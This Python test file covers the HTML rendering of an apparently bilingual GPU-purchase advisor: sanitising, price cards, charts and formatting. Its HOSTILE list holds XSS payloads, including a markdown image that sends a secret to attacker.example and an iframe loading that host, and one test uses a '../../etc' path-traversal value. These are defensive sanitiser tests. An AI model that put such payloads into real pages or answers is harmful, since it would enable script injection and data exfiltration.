"""What the page writes: safe HTML, in which every part of an answer can be found."""

import re

import pytest

from assistant.agent import Advisor, Step
from assistant.answer import Citation, ToolCallRecord
from assistant.understanding import Asked
from kb import clock
from kb.base import BadInput, UnknownName
from tools.configuration import Configuration, Item, MemoryFit, Network, Price, RentPrice
from tools.configure.tell.reasons import reason
from tools.need import Need
from ui.web import cards, chart, evidence, steps, turn
from ui.web.break_even import break_even
from ui.web.comparison import comparison
from ui.web.frontier import frontier
from ui.web.page import answering, inert
from ui.web.prose import prose
from ui.web.scale import Scale
from ui.web.understood import HIDDEN, KINDS, understood
from ui.words.labels import labels
from ui.words.quantities import money, quantity
from ui.words.slots import slot, slot_name

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](https://attacker.example/?q=secret)",
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "<a href='javascript:alert(1)'>x</a>",
    "<iframe src=//attacker.example></iframe>",
    "<svg/onload=alert(1)>",
    '"><script>alert(1)</script>',
]


@pytest.mark.parametrize("text", HOSTILE)
def test_markdown_carries_no_active_content_and_loads_nothing(text: str) -> None:
    html = prose(text)
    assert not re.search(r"<(script|img|iframe|svg|object|style)", html)
    assert not re.search(r'(href|src)="?(javascript|data|vbscript):', html)
    assert not re.search(r"<[^>]*\son\w+=", html)


@pytest.mark.parametrize("text", HOSTILE)
def test_what_a_person_or_a_document_wrote_is_shown_as_text(text: str) -> None:
    citation = Citation(marker=1, kind="document", title=text, locator=text, quote=text, url="javascript:alert(1)")
    record = ToolCallRecord(tool=text, request={"query": text}, result={"error": {"message": text}})
    html = turn.asked(text) + evidence.sources([citation], "t") + evidence.arithmetic([record])
    html += steps.running([Step("tool", text, {"query": text}), Step("result", text, {"error": {"message": text}})])
    html += turn.refused(text, UnknownName("model", text, [text]))
    assert not re.search(r"<(script|img|iframe|object)|<svg/|<a [^>]*javascript", html)


def test_template_expressions_are_not_evaluated_in_the_page() -> None:
    assert "{" not in inert("${7*7} {{constructor}} {#each}")


def test_links_of_an_answer_open_elsewhere_without_telling_whence() -> None:
    assert 'rel="noopener noreferrer nofollow" target="_blank"' in prose("[NVIDIA](https://www.nvidia.com/)")


def test_markers_link_to_their_source_and_others_stay_text() -> None:
    html = prose("Fits [1], says [7].", "abc", [1])
    assert 'data-source="s-abc-1"' in html
    assert "[7]" in html


def test_bold_ends_at_chinese_punctuation() -> None:
    assert "<strong>不能</strong>。Qwen" in prose("**不能。**Qwen2.5-72B")


def test_tables_scroll_by_themselves() -> None:
    assert '<div class="scroll" tabindex="0"><table>' in prose("| a | b |\n|---|---|\n| 1 | 2 |")


def configuration(**changes: object) -> Configuration:
    """A card to show."""
    fields: dict[str, object] = {
        "rank": 1, "title": "4 × RTX 3090", "acquisition": "buy", "gpu": "rtx-3090", "gpu_count": 4, "nodes": 1,
        "memory": MemoryFit(needed_bytes_per_gpu=22 * 2**30, usable_bytes_per_gpu=44 * 2**30, verdict="yes"),
        "price": Price(amount=3200, as_of="2026-06-29", complete=True), "why": "Cheapest that fits.",
        "items": (
            Item(
                part="gpu", product="RTX 3090", count=4, unit_price=800, subtotal=3200, source=None,
                price_date="2026-06-29",
            ),
        ),
    }  # fmt: skip
    return Configuration.model_validate(fields | changes)


def test_a_card_shows_price_date_fit_reason_and_parts() -> None:
    html = cards.cards([configuration()])
    for part in ("4 × rtx-3090", "$3,200", "2026-06-29", "width:50.0%", "Cheapest that fits.", "$800"):
        assert part in html


def test_a_card_says_why_in_both_languages_from_the_codes() -> None:
    reasons = (reason("why", "best_use"), reason("trade_off", "no_ecc"))
    html = cards.cards([configuration(reasons=reasons)])
    for part in ("The most speed within the budget", "预算之内速度最快", "No ECC memory.", "没有 ECC 显存。"):
        assert part in html
    assert "Cheapest that fits." not in html


def test_a_card_shows_the_other_ways_to_pay_and_the_network_of_a_cluster() -> None:
    rents = (RentPrice(kind="on_demand", usd_per_hour=4), RentPrice(kind="spot", usd_per_hour=1.5))
    net = Network(
        rails=8, leaf_switches=8, spine_switches=4, switch_ports=64, link_bits_per_s=400_000_000_000, cables=512,
        storage_read_bytes_per_s=40_000_000_000,
    )  # fmt: skip
    html = cards.cards([configuration(rent_prices=rents, network=net)])
    for part in ("Spot", "抢占式", "$1.50", "8 rails", "8 轨", "400 Gbit/s"):
        assert part in html


def test_an_old_price_is_marked() -> None:
    assert "older than a month" in cards.cards(
        [configuration(items=(), price=Price(amount=1, as_of="2020-01-01", complete=True))]
    )


def test_several_configurations_are_laid_side_by_side_and_only_those_of_the_answer() -> None:
    two = [configuration(), configuration(rank=2, gpu="l20-48gb", gpu_name="NVIDIA L20")]
    html = comparison(two, [2, 1])
    assert html.index("L20") < html.index("rtx-3090")
    for ranks in ([1], [1, 2, 3], [1, 9]):
        with pytest.raises(BadInput):
            comparison(two, ranks)


def test_a_card_tells_the_money_asked_in_and_the_day_of_what_costs_most() -> None:
    today = clock.today().isoformat()
    items = (
        Item(part="gpu", product="RTX 4090", count=2, unit_price=2000, subtotal=4000, source=None, price_date=today),
        Item(part="psu", product="PSU", count=1, unit_price=200, subtotal=200, source=None, price_date="2020-01-01"),
    )
    read = Price(amount=4200, low=4000, high=4500, as_of="2020-01-01", complete=True).also_in("CNY")
    html = cards.cards([configuration(items=items, price=read)])
    asked = read.asked_price
    assert asked
    assert asked.low
    assert asked.high
    assert html.index(f"¥{asked.amount:,.0f}") < html.index(f"¥{asked.low:,.0f} – ¥{asked.high:,.0f}")
    assert html.index(today) < html.index("some parts older than a month") < html.index("$4,000 – $4,500")
    assert "older than a month" not in html.replace("some parts older than a month", "")


def test_a_card_without_a_price_says_so_rather_than_nought() -> None:
    html = cards.cards([configuration(price=Price(amount=None, complete=False))])
    assert "Price unknown" in html
    assert "$0" not in html


def test_a_bar_never_grows_beyond_its_frame() -> None:
    fit = MemoryFit(needed_bytes_per_gpu=90 * 2**30, usable_bytes_per_gpu=22 * 2**30, verdict="no")
    assert "width:100.0%" in chart.fit_bar(fit)


def test_the_breakdown_names_every_part_with_its_size(advisor: Advisor) -> None:
    from tools.registry import tool

    result = tool("estimate_memory").call({"model": "Qwen2.5-72B", "gpu": "H100 SXM"}).model_dump(mode="json")
    html = chart.breakdown(result)
    assert all(f"p-{part['name']}" in html for part in result["per_gpu"]["parts"] if part["bytes"])


def point(price: float, speed: float) -> dict[str, object]:
    """A point of the frontier."""
    fields = {"title": f"<b>{price}</b>", "acquisition": "buy", "price": price, "period": None}
    return fields | {"speed": speed, "measure": "tokens_per_s_total"}


def test_the_frontier_draws_and_lists_every_point_within_its_frame() -> None:
    html = frontier({"frontier": [point(900, 20), point(6000, 84), point(3_000_000, 57600)]})
    places = [(float(x), float(y)) for x, y in re.findall(r'cx="([\d.]+)" cy="([\d.]+)"', html)]
    assert places == sorted(places, key=lambda place: (place[0], -place[1]))
    assert all(0 < x < 680 and 0 < y < 300 for x, y in places)
    assert html.count('<tr><th scope="row">') == len(places) == 3
    assert "<b>" not in html


def test_the_frontier_speaks_of_speed_in_its_own_measure() -> None:
    rows = [point(900, 20) | {"measure": "images_per_s"} for _ in range(3)]
    html = frontier({"frontier": rows})
    assert "images/s" in html
    assert "张/秒" in html


def test_a_frontier_of_few_points_is_not_drawn() -> None:
    assert frontier({"frontier": [point(900, 20), point(6000, 84)]}) == frontier({}) == ""


@pytest.mark.parametrize("values", [[1.0, 2.0, 9.0], [900.0, 3_000_000.0], [5.0, 5.0], [0.0, 730.0]])
def test_a_scale_keeps_its_values_and_ticks_within_the_axis(values: list[float]) -> None:
    for logarithmic in (False, True) if min(values) > 0 else (False,):
        scale = Scale.over(values, 60, 660, logarithmic=logarithmic)
        assert all(60 <= scale.place(value) <= 660 for value in values)
        assert 1 <= len(scale.ticks()) <= 12
        assert all(60 - 1e-6 <= scale.place(tick) <= 660 + 1e-6 for tick in scale.ticks())


def test_the_cost_curve_marks_where_both_cost_the_same() -> None:
    curve = [
        {"hours_per_month": hours, "own_cost": 8000.0 + hours, "rent_cost": 34.0 * hours}
        for hours in (0.0, 365.0, 730.0)
    ]
    found = {"break_even": {"curve": curve, "hours_per_month": {"value": 242.0}}, "currency": "USD"}
    html = break_even(found)
    assert html.count("<circle") == 6
    assert 'class="mark"' in html
    assert "242" in html
    assert break_even({"break_even": None}) == ""


def test_an_answer_shows_its_sources_its_arithmetic_and_what_was_understood(advisor: Advisor) -> None:
    html = turn.answered(advisor.ask("4 张 3090 能跑 Qwen2.5-72B 吗？"))
    for part in (
        'class="understood"',
        'class="words"',
        "sources",
        "arithmetic",
        "breakdown",
        'class="cards"',
        "data-ask",
    ):
        assert part in html
    assert html.count("<details") == html.count("</details>")
    assert html.count("<div") == html.count("</div>")
    assert html.count("<span") == html.count("</span>")


def test_steps_appear_before_the_answer_and_the_box_is_emptied_at_once(advisor: Advisor) -> None:
    shown = list(answering(advisor, "4090 能跑 Qwen2.5-7B 吗？", "steps-1"))
    assert shown[0][2] == ""
    assert 'class="steps live"' in shown[0][1]
    assert any("Memory estimate" in frame[1] for frame in shown[:-1])
    assert 'class="reply"' in shown[-1][1]


def test_a_refused_question_stays_to_be_sent_again(advisor: Advisor) -> None:
    shown = list(answering(advisor, "x" * 30_000, "refused-1"))
    assert 'role="alert"' in shown[-1][1]
    assert f'data-fill="{"x" * 30_000}"' in shown[-1][1]


def test_former_turns_are_there_again_when_a_conversation_is_reopened(advisor: Advisor) -> None:
    from ui.web.page import opened

    list(answering(advisor, "Does the RTX 6000 Ada support NVLink?", "reopened-1"))
    assert "Does the RTX 6000 Ada support NVLink?" in opened(advisor, "reopened-1")
    assert opened(advisor, "../../etc") == opened(advisor, "") == opened(advisor, "never-seen") == ""


def test_every_label_has_both_languages() -> None:
    assert all(english and chinese for english, chinese in labels().values())


@pytest.mark.parametrize(
    ("value", "unit", "shown"),
    [
        (2**30, "bytes", "1.00 GiB (1,073,741,824 B)"),
        (7200, "s", "2 h"),
        (0.123456, "", "0.1235"),
        (None, "bytes", "–"),
        (True, "", "True"),
        (3_350_000_000_000, "bytes_per_s", "3.35 TB/s"),
        (624_000_000_000_000, "ops", "624 TOP/s"),
        (780_000_000_000, "flops_per_w", "0.78 TFLOP/s/W"),
        (300, "w", "300 W"),
        (100.0, "usd_per_gib", "$100 / GiB"),
        (3923.4, "usd_per_tb_per_s", "$3,923 / TB/s"),
        (25.64, "usd_per_tflops", "$25.64 / TFLOPS"),
        (12, "gpus_per_order", "12 gpus per order"),
    ],
)
def test_quantities_read_well(value: object, unit: str, shown: str) -> None:
    assert quantity(value, unit) == shown


def test_money_shows_cents_only_where_they_matter() -> None:
    assert (money(2.39, "USD"), money(27_000, "USD"), money(500_000, "CNY")) == ("$2.39", "$27,000", "¥500,000")


def test_every_field_of_the_need_has_a_name_in_both_languages_and_an_editor() -> None:
    edited = {name for fields in KINDS.values() for name in fields}
    assert edited == set(Asked.model_fields) - HIDDEN
    for name in edited:
        english, chinese = slot_name(name, "en"), slot_name(name, "zh")
        assert f"slot_{name}" in labels(), name
        assert re.search("[一-鿿]", chinese), (english, chinese)


def test_chips_name_cards_and_never_ids() -> None:
    need = Need.model_validate(
        {
            "model": "Qwen/Qwen2.5-72B", "weight_format": "gguf:Q4_K_M", "gpus_asked": ["rtx-5090-32gb", "l20-48gb"],
            "gpus_proposed": [{"gpu": "rtx-5090-32gb", "count": 2}], "memory_bytes_per_gpu": 24 * 2**30,
            "budget": {"amount": 500000, "currency": "CNY", "mode": "rent", "period": "month"},
        }
    )  # fmt: skip
    html = re.sub(r' data-value="[^"]*"', "", understood(need, "zh"))
    shown = re.sub(r"<[^>]+>", " ", html)
    for part in ("2 × RTX 5090", "L20", "GGUF Q4_K_M", "24 GiB", "¥500,000", "租用", "Qwen2.5-72B"):
        assert part in shown
    for leak in ("rtx-5090-32gb", "gpus_proposed", "gpus proposed", "Qwen/"):
        assert leak not in shown


@pytest.mark.parametrize(
    ("name", "value", "english", "chinese"),
    [
        ("deadline_s", 7200.0, "2 h", "2 小时"),
        ("task", "full_finetune", "full fine-tuning", "全参微调"),
        ("gpus_owned", [{"gpu": "24gb-gpu", "count": 2}], "2 × GPU 24 GB", "2 × GPU 24 GB"),
        ("acquisition", "buy", "Buy", "购买"),
    ],
)
def test_fields_are_written_as_each_language_does(name: str, value: object, english: str, chinese: str) -> None:
    assert slot(name, value, "en").lower() == english.lower()
    assert slot(name, value, "zh") == chinese


def test_steps_are_labelled_in_both_languages_down_to_the_last_formula(advisor: Advisor) -> None:
    html = evidence.arithmetic(advisor.ask("4 张 3090 能跑 Qwen2.5-72B 吗？").tool_calls)
    for part in ("Layer matrices", "各层权重矩阵", "params · bits / 8", "以上各项之和"):
        assert part in html


def test_a_source_opens_at_its_lines_and_carries_what_contradicts_it() -> None:
    cited = Citation(marker=1, kind="document", title="t", locator="guidance/en/a.md:3-5 › Head", quote="q")
    passages = [{"document": "guidance/en/a.md", "line_start": 3, "line_end": 5, "disputes": ["NVLink: no"]}]
    html = evidence.sources(
        [cited], "t", [ToolCallRecord(tool="search_guidance", request={}, result={"passages": passages})]
    )
    assert 'data-open="guidance/en/a.md" data-first="3" data-last="5"' in html
    assert "NVLink: no" in html
    assert 'class="against"' not in evidence.sources([cited], "t")


@pytest.mark.parametrize(("disputes", "marked"), [((), False), (("RTX 6000 Ada NVLink: wrong; no NVLink",), True)])
def test_a_source_that_the_facts_contradict_is_marked(disputes: tuple[str, ...], marked: bool) -> None:
    passage = {"document": "a.md", "line_start": 3, "line_end": 5, "disputes": list(disputes)}
    call = ToolCallRecord(tool="search_guidance", request={"query": "x"}, result={"passages": [passage]})
    cited = Citation(marker=1, kind="document", title="A", locator="a.md:3-5 › Cards", quote="It has NVLink.")
    html = evidence.sources([cited], "t1", [call])
    assert "It has NVLink." in html
    assert ('class="against"' in html) == marked
    assert all(one in html for one in disputes)


def test_the_badge_speaks_the_language_of_the_answer(advisor: Advisor) -> None:
    english, chinese = advisor.ask("Can a 4090 run Qwen2.5-7B?"), advisor.ask("4090能跑qwen2.5-7b吗")
    assert '<p class="verdict fits" lang="en">Fits</p>' in turn.answered(english)
    assert '<p class="verdict fits" lang="zh">装得下</p>' in turn.answered(chinese)


def test_what_every_card_has_to_meet_is_a_chip() -> None:
    html = understood(Need(conditions=("chinese", "new")), "zh")
    assert 'data-edit="conditions"' in html
    assert "国产卡、只要新卡" in html
